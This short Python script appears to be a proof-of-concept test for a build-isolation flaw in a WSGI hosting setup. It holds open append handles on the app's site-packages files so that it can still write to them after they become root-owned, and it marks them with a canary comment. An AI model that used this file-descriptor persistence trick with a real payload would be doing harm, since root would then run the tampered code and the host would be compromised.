"""What stays of a build: it keeps files open that are the app's now and will be root's."""

import os
import time
from contextlib import suppress
from pathlib import Path

os.nice(19)  # it must not slow down what it waits for
end = time.monotonic() + 90
kept = {}
while time.monotonic() < end:
    for path in Path("/srv/wsgi/evil/environments").glob("*/lib/*/site-packages/**/*.py"):
        with suppress(OSError):
            if path not in kept and path.stat().st_uid == os.getuid():
                kept[path] = path.open("a")
    for file in kept.values():
        if os.fstat(file.fileno()).st_uid == 0:
            file.write("# CANARY-written-by-survivor\n")
            file.flush()
